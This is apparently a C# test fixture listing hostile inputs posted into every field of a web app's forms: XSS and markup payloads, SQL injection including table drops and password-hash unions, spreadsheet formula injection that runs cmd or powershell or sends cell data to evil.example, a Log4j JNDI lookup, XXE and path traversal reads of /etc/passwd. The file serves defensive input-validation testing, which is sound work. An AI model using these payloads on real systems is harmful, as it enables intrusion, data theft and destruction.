using System.Globalization;
using System.Text;

namespace ProcurementGroup.Web.Tests.Hostile;

/// <summary>One hostile text: a short name for reports and the value posted into every text field of a form.</summary>
public sealed record HostileText(string Name, string Value)
{
    /// <summary>True when the raw value, if echoed unencoded, would be markup a browser runs or parses.</summary>
    public bool IsMarkup => Value.Contains('<', StringComparison.Ordinal);

    /// <summary>A spreadsheet would read the value as a formula if it were written as it is.</summary>
    public bool IsFormula => (Value.Length > 0 && "=+-@\t\r".Contains(Value[0], StringComparison.Ordinal) && !IsPlainNumber(Value)) || Value.StartsWith("$=", StringComparison.Ordinal);

    public override string ToString() => Name;

    private static bool IsPlainNumber(string value) =>
        decimal.TryParse(value, NumberStyles.Number, CultureInfo.InvariantCulture, out _)
        || decimal.TryParse(value, NumberStyles.Number, CultureInfo.GetCultureInfo("fr-FR"), out _);
}

/// <summary>
/// The hostile-input corpus (issue 6, item 11): texts posted into every text field of every POST form, and files posted
/// to every upload (<see cref="HostileFiles"/>). Each entry has a unique name so a failure names it.
/// </summary>
public static class HostileCorpus
{
    public const int LongLength = 100_000;

    public static IReadOnlyList<HostileText> Texts { get; } = BuildTexts();

    /// <summary>The entries a spreadsheet would evaluate: posted before the downloads are checked for live formulas.</summary>
    public static IReadOnlyList<HostileText> Formulas => Texts.Where(t => t.IsFormula).ToList();

    private static List<HostileText> BuildTexts()
    {
        var list = new List<HostileText>();
        void Add(string name, string value) => list.Add(new HostileText(name, value));

        // Scripts and markup: stored, they must come back HTML-encoded.
        Add("script", "<script>alert(1)</script>");
        Add("script-upper", "<SCRIPT>alert('XSS')</SCRIPT>");
        Add("script-src", "<script src=//evil.example/x.js></script>");
        Add("script-split", "<scr<script>ipt>alert(1)</script>");
        Add("attr-breaker-double", "\"><img src=x onerror=alert(1)>");
        Add("attr-breaker-single", "'><img src=x onerror=alert(1)>");
        Add("attr-breaker-backtick", "`><svg onload=alert(1)>");
        Add("img-onerror", "<img src=x onerror=alert(document.cookie)>");
        Add("svg-onload", "<svg/onload=alert(1)>");
        Add("iframe-js", "<iframe src=\"javascript:alert(1)\"></iframe>");
        Add("anchor-js", "<a href=\"javascript:alert(1)\">clic</a>");
        Add("javascript-url", "javascript:alert(1)");
        Add("javascript-url-spaced", " JaVaScRiPt:alert(1)");
        Add("data-url", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==");
        Add("vbscript-url", "vbscript:msgbox(1)");
        Add("body-onload", "<body onload=alert(1)>");
        Add("style-expression", "<div style=\"background:url(javascript:alert(1))\">x</div>");
        Add("textarea-close", "</textarea><script>alert(1)</script>");
        Add("title-close", "</title><script>alert(1)</script>");
        Add("html-comment", "<!--<script>alert(1)</script>-->");
        Add("cdata", "<![CDATA[<script>alert(1)</script>]]>");
        Add("template-literal", "${alert(1)}");
        Add("angular-expression", "{{constructor.constructor('alert(1)')()}}");
        Add("razor-at", "@DateTime.Now @(1+1)");
        Add("entity-encoded", "&lt;script&gt;alert(1)&lt;/script&gt;");
        Add("double-encoded", "%3Cscript%3Ealert(1)%3C%2Fscript%3E");
        Add("json-breaker", "\"}]};alert(1);//");
        Add("meta-refresh", "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">");
        Add("form-hijack", "<form action=https://evil.example><button>OK</button></form>");
        Add("math-xss", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>");
        Add("script-in-email", "<script>alert(1)</script>@example.org");
        Add("quote-mix", "'\"`<>&;");

        // SQL.
        Add("sql-or", "' OR 1=1 --");
        Add("sql-or-double", "\" OR \"1\"=\"1");
        Add("sql-drop", "'; DROP TABLE Members; --");
        Add("sql-drop-users", "1; DROP TABLE Users");
        Add("sql-union", "' UNION SELECT Email, PasswordHash FROM Users --");
        Add("sql-comment", "admin'/*");
        Add("sql-sleep", "1' AND (SELECT 1 FROM (SELECT SLEEP(5))x) --");
        Add("sql-waitfor", "'; WAITFOR DELAY '0:0:5' --");
        Add("sql-semicolon-insert", "x'); INSERT INTO Users (Email) VALUES ('pwned'); --");
        Add("sql-like-wildcards", "%_%[]^");
        Add("sql-backslash", "\\'; --");
        Add("sql-hex", "0x27204f5220313d31");
        Add("sql-char", "CHAR(39)+CHAR(32)");
        Add("sql-numeric-or", "1 OR 1=1");
        Add("sql-pragma", "'; PRAGMA writable_schema=1; --");
        Add("sql-attach", "'; ATTACH DATABASE '/tmp/x.db' AS x; --");

        // Formulas (CSV/XLSX injection).
        Add("formula-equals", "=1+1");
        Add("formula-dollar", "$=A1");
        Add("formula-dde", "+cmd|' /C calc'!A0");
        Add("formula-at", "@SUM(1)");
        Add("formula-minus", "-2+3");
        Add("formula-hyperlink", "=HYPERLINK(\"https://evil.example?\"&A1,\"Cliquez\")");
        Add("formula-webservice", "=WEBSERVICE(\"https://evil.example\")");
        Add("formula-importxml", "=IMPORTXML(CONCAT(\"https://evil.example/?\",A1),\"//a\")");
        Add("formula-dde-equals", "=cmd|' /C powershell'!A0");
        Add("formula-tab", "\t=1+1");
        Add("formula-cr", "\r=1+1");
        Add("formula-plus-sum", "+SUM(A1:A9)");
        Add("formula-minus-cmd", "-cmd|' /C calc'!A0");
        Add("formula-at-hyperlink", "@HYPERLINK(\"https://evil.example\")");
        Add("formula-dollar-sum", "$=SUM(1,2)");
        Add("formula-equals-spaced", "= 1+1");
        Add("formula-fullwidth", "＝1+1");

        // Control characters.
        Add("nul", "a\0b");
        Add("nul-only", "\0");
        Add("soh", "\u0001abc");
        Add("bell-backspace", "\a\b");
        Add("crlf-inside", "ligne 1\r\nligne 2");
        Add("lf-inside", "ligne 1\nligne 2");
        Add("cr-only", "a\rb");
        Add("tab-inside", "a\tb");
        Add("vertical-tab-formfeed", "a\u000B\u000Cb");
        Add("escape", "\u001B[31mrouge\u001B[0m");
        Add("del", "a\u007Fb");
        Add("c1-controls", "a\u0085\u009Bb");
        Add("header-injection", "x\r\nSet-Cookie: pwned=1");
        Add("all-c0", new string(Enumerable.Range(1, 31).Select(i => (char)i).ToArray()));

        // Bidirectional, invisible and unusual Unicode.
        Add("bidi-rlo", "\u202Eexe.fdp");
        Add("bidi-lri", "\u2066abc\u2069");
        Add("bidi-rli-pdi", "\u2067\u05D0\u05D1\u2069");
        Add("bidi-lre-pdf", "\u202Aabc\u202C");
        Add("bidi-mixed", "facture\u202Excl.pdf");
        Add("zero-width-space", "a\u200Bb");
        Add("zero-width-joiner", "a\u200D\u200Cb");
        Add("bom-inside", "\uFEFFabc");
        Add("word-joiner", "a\u2060b");
        Add("zero-width-only", "\u200B\u200B\u200B");
        Add("emoji", "Collège 🏫 numérique 💻");
        Add("emoji-zwj-family", "👨‍👩‍👧‍👦");
        Add("emoji-flag", "🇫🇷");
        Add("surrogate-pair-math", "𝕏𝔸𝕄");
        Add("lone-high-surrogate", "a\uD83Db");
        Add("lone-low-surrogate", "a\uDE00b");
        Add("combining-zalgo", "Z\u0351\u0352\u0353\u0354a\u0355\u0356l\u0357g\u0358o");
        Add("decomposed-accents", "Colle\u0300ge e\u0301le\u0300ve");
        Add("homoglyph-cyrillic", "аdmin@demo.local");
        Add("rtl-arabic", "مرحبا بالعالم");
        Add("cjk", "採購集團");
        Add("nbsp-narrow", "1\u202F000\u00A0€");
        Add("private-use", "\uE000\uF8FF");
        Add("noncharacter", "\uFFFE\uFFFF");
        Add("replacement-char", "\uFFFD");
        Add("line-separator", "a\u2028b\u2029c");

        // Long strings.
        Add("long-ascii-100k", new string('a', LongLength));
        Add("long-script-100k", string.Concat(Enumerable.Repeat("<script>alert(1)</script>", LongLength / 25)));
        Add("long-emoji-100k", string.Concat(Enumerable.Repeat("😀", LongLength / 2)));
        Add("long-digits-100k", new string('9', LongLength));
        Add("long-accents-100k", string.Concat(Enumerable.Repeat("é", LongLength)));
        Add("long-256", new string('x', 256));
        Add("long-4001", new string('y', 4001));

        // Malformed numbers, as typed in French forms.
        Add("number-dot-thousands", "1.000");
        Add("number-two-commas", "12,345,67");
        Add("number-overflow-double", "1e309");
        Add("number-exponent", "1e5");
        Add("number-nan", "NaN");
        Add("number-infinity", "Infinity");
        Add("number-neg-infinity", "-Infinity");
        Add("number-minus-zero", "-0");
        Add("number-20-digits", "99999999999999999999");
        Add("number-long-max", "9223372036854775807");
        Add("number-long-max-plus", "9223372036854775808");
        Add("number-int-max-plus", "2147483648");
        Add("number-negative", "-1");
        Add("number-negative-comma", "-12,50");
        Add("number-many-decimals", "0,0000000000000000000001");
        Add("number-hex", "0x10");
        Add("number-plus-sign", "+5");
        Add("number-spaces", " 1 000 ");
        Add("number-euro", "12,50 €");
        Add("number-percent", "50%");
        Add("number-arabic-indic", "١٢٣");
        Add("number-fullwidth", "１２３");
        Add("number-decimal-max", "79228162514264337593543950336");
        Add("number-comma-only", ",");
        Add("number-dot-only", ".");
        Add("number-minus-only", "-");

        // Malformed dates and times.
        Add("date-feb-31", "31/02/2026");
        Add("date-month-13", "2026-13-01");
        Add("date-zeros", "00/00/0000");
        Add("time-24-61", "24:61");
        Add("date-iso-feb-30", "2026-02-30");
        Add("date-year-0", "0000-01-01");
        Add("date-year-10000", "10000-01-01");
        Add("date-year-1", "0001-01-01");
        Add("date-year-9999", "9999-12-31");
        Add("date-us", "12/31/2026");
        Add("date-text", "demain");
        Add("datetime-bad-hour", "2026-06-01T25:00");
        Add("datetime-iso-z", "2026-06-01T10:00:00Z");
        Add("datetime-offset", "2026-06-01T10:00:00+14:00");
        Add("date-negative-year", "-2026-01-01");
        Add("date-unix", "1780000000");
        Add("date-dst-gap", "2026-03-29T02:30");

        // Empty and whitespace.
        Add("empty", string.Empty);
        Add("space", " ");
        Add("spaces", "     ");
        Add("tab-only", "\t");
        Add("newline-only", "\r\n");
        Add("nbsp-only", "\u00A0\u00A0");
        Add("ideographic-space", "\u3000");
        Add("em-space", "\u2003");

        // E-mails.
        Add("email-long-local", new string('a', 300) + "@example.org");
        Add("email-long-domain", "a@" + string.Join('.', Enumerable.Repeat(new string('b', 63), 5)) + ".org");
        Add("email-long-valid", new string('c', 64) + "@" + new string('d', 60) + ".example.org");
        Add("email-quoted-local", "\"<script>\"@example.org");
        Add("email-two-at", "a@b@example.org");
        Add("email-no-domain", "nobody@");
        Add("email-ip-literal", "user@[127.0.0.1]");
        Add("email-crlf", "victim@example.org\r\nBcc: evil@example.org");
        Add("email-comma-list", "a@example.org,b@example.org");
        Add("email-idn", "élu@mairie-élancourt.fr");
        Add("email-plus", "admin+x@demo.local");
        Add("email-demo-upper", "ADMIN@DEMO.LOCAL");

        // Paths and URLs.
        Add("path-traversal", "../../etc/passwd");
        Add("path-traversal-windows", "..\\..\\windows\\win.ini");
        Add("path-encoded", "%2e%2e%2f%2e%2e%2fetc%2fpasswd");
        Add("path-absolute", "/etc/shadow");
        Add("path-unc", "\\\\evil.example\\share");
        Add("file-url", "file:///etc/passwd");
        Add("url-open-redirect", "//evil.example");
        Add("url-http", "https://evil.example/?q=<x>");

        // Null bytes inside otherwise valid values.
        Add("null-in-email", "admin@demo.local\0.evil");
        Add("null-in-number", "12\0");
        Add("null-in-date", "2026-06-01\0");
        Add("null-trailing", "texte\0");

        // Format strings and templates.
        Add("format-placeholder", "{0}");
        Add("format-placeholders", "{0}{1}{2}{99}");
        Add("format-bad-brace", "{");
        Add("format-c", "%s%s%n");
        Add("format-x", "%x%x%x%x");
        Add("format-d-long", "%99999999d");
        Add("format-interpolation", "#{7*7}");
        Add("format-jinja", "{{7*7}}");
        Add("format-log4j", "${jndi:ldap://evil.example/a}");
        Add("format-resource-key", "Le champ {0} est obligatoire.");

        // Values that look like the app's own identifiers or keywords.
        Add("siren-like", "123456789");
        Add("siret-la-poste", "35600000000048");
        Add("keyword-null", "null");
        Add("keyword-undefined", "undefined");
        Add("keyword-true", "true");
        Add("json-object", "{\"Id\":1,\"Version\":99}");
        Add("xml-entity", "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>");
        Add("mime-header", "=?UTF-8?B?PHNjcmlwdD4=?=");
        Add("backslashes", "\\\\\\\\");
        Add("unicode-escape-text", "\\u003cscript\\u003e");

        return list;
    }
}
